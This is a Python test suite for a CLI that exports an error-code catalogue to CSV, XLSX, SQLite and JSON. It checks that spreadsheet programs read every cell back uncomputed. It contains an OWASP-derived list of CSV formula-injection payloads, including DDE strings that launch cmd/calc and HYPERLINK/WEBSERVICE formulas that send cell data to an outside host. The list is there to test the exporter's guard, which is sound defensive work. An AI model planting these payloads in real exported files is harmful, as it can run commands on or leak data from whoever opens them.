# SPDX-FileCopyrightText: 2026 The Errdex authors
# SPDX-License-Identifier: MIT
"""Exports tables and reads them with other programs, cell by cell: test_tables.py ERRDEX-CLI."""

import codecs
import csv
import io
import json
import os
import re
import shutil
import sqlite3
import subprocess
import sys
import tempfile
import unittest
import xml.etree.ElementTree as ElementTree
import zipfile

CLI = sys.argv.pop(1)
SOURCES = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "..", "data", "vendors")
COLUMNS = ["vendor", "code", "variant", "category", "name", "http_status", "message_en", "message_ru", "description_en",
           "description_ru", "returned_by", "reference"]
NAMESPACE = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
# What spreadsheets take for something else, and what XML and CSV have to write in another way.
HARD = ["0005", "1E5", "-2147024891", "1-2", "MAR1", "TRUE", "#N/A", "1.5", "9999999999999999", "=1+1", "+1+x", "@SUM(1)",
        "\uff1d1+1", "'=1+1", "="  '"0005"', "a;b,c", 'say "so"', "<b>&amp;</b>", "_x000D_", "ё «»", "\U0001f600", "0x80070005",
        '=HYPERLINK("http://example.com","x")', "=cmd|' /C calc'!A0", "x" * 40000, "{[=1]}", "tail\\", "a|b`c*d_e"]
# What is known to be tried on whoever opens a CSV file (OWASP, "CSV Injection", and its variations).
PAYLOADS = [
    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "=SUM(A1:A9)", "=1+1;", " =1+1", "   =1+1", "\u00a0=1+1", "\u200b=1+1", "\u3000=1+1",
    "\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20SUM(1+1)", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-cmd|' /C calc'!A0",
    "@cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "=2+5+cmd|' /C calc'!A0", "=MSEXCEL|'..\\..\\cmd.exe'!''",
    '=HYPERLINK("http://example.com?x="&A1,"click")', '=HYPERLINK("http://example.com")', '=WEBSERVICE("http://example.com/"&A1)',
    '=IMPORTXML("http://example.com","//a")', '=IMAGE("http://example.com/a.png")', "=NOW()", "=RAND()", "=A1", "=$A$1",
    "=IFERROR(1/0,2)", '=CONCATENATE("a","b")', '="a"&"b"', "={1,2}", "=-1", "=+1", "+-1", "-+1", "@A1", '"=1+1', "'=1+1", "''=1+1",
]


def run(*command, **options):
    return subprocess.run(command, check=True, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, **options).stdout


def has(*programs):
    return all(map(shutil.which, programs))


def sources(*folders):
    """The cells of every record, read from the source files alone."""
    rows = []
    for folder in folders:
        for name in os.listdir(folder):
            if not name.endswith(".json"):
                continue
            with open(os.path.join(folder, name), encoding="utf-8") as file:
                vendor = json.load(file)
            for record in vendor["records"]:
                def both(field):
                    text = record.get(field) or {}
                    return [text.get("en", ""), text.get("ru", "")]
                operations = [item[vendor["original_language"]] for item in record.get("returned_by", [])]
                rows.append([vendor["slug"], record["code"], str(record.get("variant", "")), record["category"],
                             record.get("name", ""), str(record.get("http_status", "")), *both("message"),
                             *both("description"), ", ".join(operations), record.get("reference", "")])
    return sorted(rows)


def unguarded(cell):
    """As cellguard.h tells it, written anew."""
    if re.match(r"'+[\s\ufeff\u200b]*[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]", cell):
        return cell[1:]
    match = re.fullmatch(r'="((?:[^"]|"")*)"', cell)
    return match[1].replace('""', '"') if match and match[1] else cell


def text_of(cell):
    """The text of an XLSX cell: ECMA-376, ST_Xstring."""
    return re.sub("_x([0-9A-Fa-f]{4})_", lambda match: chr(int(match[1], 16)), cell)


def sheets(path):
    """The sheets of an XLSX file as (name, rows, kinds of the cells of the last row)."""
    with zipfile.ZipFile(path) as archive:
        assert archive.testzip() is None
        parts = {name: ElementTree.fromstring(archive.read(name)) for name in archive.namelist()}
    names = [sheet.get("name") for sheet in parts["xl/workbook.xml"].iter(NAMESPACE + "sheet")]
    found = []
    for number, name in enumerate(names, 1):
        sheet = parts[f"xl/worksheets/sheet{number}.xml"]
        rows, kinds = [], {}
        for row in sheet.iter(NAMESPACE + "row"):
            cells = {}
            for cell in row.iter(NAMESPACE + "c"):
                column = re.match("[A-Z]+", cell.get("r"))[0]
                assert cell.get("r") == column + row.get("r")
                kinds[column] = cell.get("t", "n")
                parts_of_text = cell.iter(NAMESPACE + "t") if kinds[column] == "inlineStr" else cell.iter(NAMESPACE + "v")
                cells[ord(column) - ord("A")] = text_of("".join(part.text or "" for part in parts_of_text))
            rows.append(cells)
        width = max(max(cells, default=0) for cells in rows) + 1
        found.append((name, [[cells.get(i, "") for i in range(width)] for cells in rows], kinds, sheet))
    return found


class Tables(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.temporary = tempfile.TemporaryDirectory()
        cls.addClassCleanup(cls.temporary.cleanup)
        cls.folder = cls.temporary.name
        pack = os.path.join(cls.folder, "hard")
        os.mkdir(pack)
        text = {"en": "hard", "ru": "трудный"}
        records = [{"code": f"{number:02} {value[:20]}" if len(value) > 100 else value, "category": "all", "name": value[:100],
                    "message": {"en": value, "ru": value}, "returned_by": [{"en": value[:50], "ru": "х"}]}
                   for number, value in enumerate(HARD)]
        with open(os.path.join(pack, "hard.json"), "w", encoding="utf-8") as file:
            json.dump({"slug": "hard", "order": 9, "name": {"en": "Hard: [a/b]*?", "ru": "Трудный"}, "product": text,
                       "original_language": "en", "source": {"title": "t", "retrieved": "2026-01-01"},
                       "categories": [{"id": "all", "name": text}], "records": records}, file)
        cls.catalogue = os.path.join(cls.folder, "catalog.sqlite")
        run(CLI, "catalog", "build", SOURCES, pack, "--output", cls.catalogue)
        cls.expected = sources(SOURCES, pack)
        # In a table for people the description stands in for a message that is not there.
        cls.shown = sorted([*row[:6], *(row[6:8] if any(row[6:8]) else row[8:10]), *row[8:]] for row in cls.expected)

    def export(self, name, *options):
        path = os.path.join(self.folder, name)
        run(CLI, "export", "--catalog", self.catalogue, "--output", path, *options)
        return path

    def read_csv(self, path, separator=",", encoding="utf-8"):
        with open(path, encoding=encoding, newline="") as file:
            return list(csv.reader(file, delimiter=separator, strict=True))

    def office(self, path, kind, source=None):
        """The file as LibreOffice reads it, every cell as its text."""
        out = os.path.join(self.folder, "office")
        run("soffice", f"-env:UserInstallation=file://{self.folder}/profile", "--headless",
            *([f"--infilter={source}"] if source else []), "--convert-to",
            f"{kind}:Text - txt - csv (StarCalc):44,34,76,1,,0,false,false,false", "--outdir", out, path)
        return self.read_csv(os.path.join(out, os.path.splitext(os.path.basename(path))[0] + "." + kind))

    def check(self, rows, expected=None, heading=COLUMNS):
        self.assertEqual(rows[0], heading)
        expected = expected or self.expected
        self.assertEqual(len(rows) - 1, len(expected))
        for got, want in zip(sorted(rows[1:]), expected):
            self.assertEqual(got, want)

    def test_data(self):
        path = self.export("data.csv", "--preset", "data", "--columns", ",".join(COLUMNS))
        with open(path, "rb") as file:
            content = file.read()
        self.assertNotIn(b"\r", content)
        self.assertTrue(content.startswith(b"vendor,code,"))
        self.check(self.read_csv(path))

    def test_excel(self):
        path = self.export("excel.csv", "--preset", "excel", "--separator", ";", "--columns", ",".join(COLUMNS))
        with open(path, "rb") as file:
            content = file.read()
        self.assertTrue(content.startswith(codecs.BOM_UTF8))
        rows = self.read_csv(path, ";", "utf-8-sig")
        guarded = [cell for row in rows[1:] for cell in row if re.match(r"\s*[=+\-@\uff1d]", cell)]
        for cell in guarded:
            self.assertRegex(cell, r'^="([^"]|"")*"$')
        self.assertIn('="-2147024891"', guarded)
        rows[1:] = [[unguarded(cell) for cell in row] for row in rows[1:]]
        rows[0] = COLUMNS
        self.check(rows, self.shown)

    def test_separator_of_the_system(self):
        for locale, separator in (("ru_RU.UTF-8", ";"), ("en_US.UTF-8", ","), ("de_DE.UTF-8", ";")):
            path = os.path.join(self.folder, "locale.csv")
            run(CLI, "export", "--catalog", self.catalogue, "--preset", "excel", "--vendor", "oz-api", "--output", path,
                env={**os.environ, "LC_ALL": locale})
            self.assertEqual(len(self.read_csv(path, separator, "utf-8-sig")), 14)

    def test_windows1251(self):
        path = os.path.join(self.folder, "1251.csv")
        told = subprocess.run([CLI, "export", "--catalog", self.catalogue, "--encoding", "cp1251", "--output", path,
                               "--ui-lang", "en", "--columns", ",".join(COLUMNS)], check=True, stderr=subprocess.PIPE, encoding="utf-8").stderr
        self.assertIn("U+1F600", told)
        self.assertIn("hard/\U0001f600, message_en", told)
        self.assertNotIn("planfix", told)
        rows = [row for row in self.read_csv(path, encoding="cp1251") if row[0] != "hard"]
        self.check(rows, [row for row in self.expected if row[0] != "hard"])

    @unittest.skipUnless(has("sqlite3"), "sqlite3 is not here")
    def test_sqlite_import(self):
        path = self.export("import.csv", "--preset", "data", "--columns", ",".join(COLUMNS))
        database = os.path.join(self.folder, "imported.sqlite")
        run("sqlite3", database, f".import --csv {path} codes")
        with sqlite3.connect(database) as connection:
            self.check([COLUMNS, *map(list, connection.execute(f"SELECT {', '.join(COLUMNS)} FROM codes"))])

    def test_sqlite(self):
        path = self.export("codes.sqlite")
        with sqlite3.connect(f"file:{path}?mode=ro", uri=True) as connection:
            rows = connection.execute(f"SELECT {', '.join(COLUMNS)} FROM codes").fetchall()
        self.check([COLUMNS, *[["" if cell is None else str(cell) for cell in row] for row in rows]])

    def test_json_lines(self):
        with open(self.export("codes.jsonl"), encoding="utf-8") as file:
            lines = [json.loads(line) for line in file]
        with open(self.export("codes.json"), encoding="utf-8") as file:
            self.assertEqual(lines, json.load(file))
        self.assertEqual(sorted(record["code"] for record in lines), sorted(row[1] for row in self.expected))

    def test_xlsx(self):
        path = self.export("codes.xlsx", "--columns", ",".join(COLUMNS))
        [(name, rows, kinds, sheet)] = sheets(path)
        self.assertEqual(name, "Errdex")
        rows[0] = COLUMNS
        cut = "x" * 32766 + "…"
        self.check(rows, sorted([cut if len(cell) > 32767 else cell for cell in row] for row in self.shown))
        self.assertEqual(kinds["F"], "n")
        self.assertEqual({kinds[column] for column in "ABDG"}, {"inlineStr"})
        self.assertEqual(sheet.find(NAMESPACE + "autoFilter").get("ref"), f"A1:L{len(self.expected) + 1}")
        pane = sheet.find(f"{NAMESPACE}sheetViews/{NAMESPACE}sheetView/{NAMESPACE}pane")
        self.assertEqual((pane.get("ySplit"), pane.get("state")), ("1", "frozen"))
        self.assertEqual(len(sheet.find(NAMESPACE + "cols")), len(COLUMNS))

    def test_xlsx_in_russian_with_sheets(self):
        path = self.export("sheets.xlsx", "--sheet-per-vendor", "--lang", "ru", "--ui-lang", "ru")
        found = sheets(path)
        self.assertEqual([name for name, *_ in found], ["Planfix", "Telerik Backend Services", "Radist.Online",
                                                        "Oz Forensics", "Коды состояния HTTP", "Трудный"])
        self.assertEqual([len(rows) - 1 for _, rows, *_ in found], [71, 64, 138, 13, 63, len(HARD)])
        for _, rows, *_ in found:
            self.assertEqual(rows[0], ["Код", "Вендор", "Категория", "Имя", "HTTP", "Сообщение", "Описание"][:len(rows[0])])

    def test_xlsx_says_what_was_cut(self):
        path = os.path.join(self.folder, "cut.xlsx")
        told = subprocess.run([CLI, "export", "--catalog", self.catalogue, "--output", path, "--ui-lang", "en"], check=True,
                              stderr=subprocess.PIPE, encoding="utf-8").stderr
        self.assertIn("hard/24 xxxxxxxxxxxxxxxxxxxx", told)
        self.assertIn("too long for a cell", told)

    def payload_file(self):
        pack = os.path.join(self.folder, "payloads")
        if not os.path.isdir(pack):
            os.mkdir(pack)
            text = {"en": "p", "ru": "п"}
            # A catalogue has no text that begins with a space: such a text is looked at in the test of the domain.
            records = [{"code": f"P{number}", "category": "all", "message": {"en": payload.strip() or "x", "ru": "п"}}
                       for number, payload in enumerate(PAYLOADS)]
            with open(os.path.join(pack, "payloads.json"), "w", encoding="utf-8") as file:
                json.dump({"slug": "payloads", "order": 1, "name": text, "product": text, "original_language": "en",
                           "source": {"title": "t", "retrieved": "2026-01-01"}, "categories": [{"id": "all", "name": text}],
                           "records": records}, file)
        catalogue = os.path.join(self.folder, "payloads.sqlite")
        run(CLI, "catalog", "build", pack, "--output", catalogue)
        path = os.path.join(self.folder, "payloads.csv")
        run(CLI, "export", "--catalog", catalogue, "--preset", "excel", "--separator", ",", "--columns", "code,message_en",
            "--output", path)
        return path

    def check_payloads(self, rows):
        """Each comes back as it was; with the guard still on or taken off by the program, but never computed."""
        self.assertEqual(len(rows) - 1, len(PAYLOADS))
        found = {code: text for code, text in rows[1:]}
        for number, payload in enumerate(PAYLOADS):
            shown = found[f"P{number}"]
            self.assertIn(payload.strip(), (shown, unguarded(shown)))

    @unittest.skipUnless(has("soffice"), "LibreOffice is not here")
    def test_payloads_in_office(self):
        self.check_payloads(self.office(self.payload_file(), "txt", "Text - txt - csv (StarCalc):44,34,76,1"))

    @unittest.skipUnless(has("ssconvert"), "Gnumeric is not here")
    def test_payloads_in_gnumeric(self):
        out = os.path.join(self.folder, "gnumeric.csv")
        run("ssconvert", "--import-type=Gnumeric_stf:stf_csvtab", self.payload_file(), out)
        self.check_payloads(self.read_csv(out))

    @unittest.skipUnless(has("soffice"), "LibreOffice is not here")
    def test_office(self):
        short = [row for row in self.shown if "x" * 40000 not in row[6]]
        query = ["--columns", ",".join(COLUMNS)]
        excel = self.office(self.export("office.csv", "--preset", "excel", "--separator", ",", *query), "txt",
                            "Text - txt - csv (StarCalc):44,34,76,1")
        rows = [COLUMNS] + [[unguarded(cell) for cell in row] for row in excel[1:] if "x" * 30000 not in row[6]]
        self.check(rows, short)
        data = self.office(self.export("plain.csv", "--preset", "data", *query), "txt",
                           "Text - txt - csv (StarCalc):44,34,76,1,2/2/3/2/4/2/5/2/6/2/7/2/8/2/9/2/10/2/11/2/12/2")
        data = [row for row in data if row[0] != "hard"]
        self.check(data, [row for row in self.expected if row[0] != "hard"])
        book = self.office(self.export("office.xlsx", *query), "txt")
        self.check([COLUMNS] + [row for row in book[1:] if "x" * 30000 not in row[6]], short)


if __name__ == "__main__":
    program = unittest.main(verbosity=2, exit=False)
    skipped = program.result.skipped
    if skipped:
        print(f"{len(skipped)} of {program.result.testsRun} tests skipped: " + "; ".join(reason for _, reason in skipped))
    sys.exit(0 if program.result.wasSuccessful() else 1)
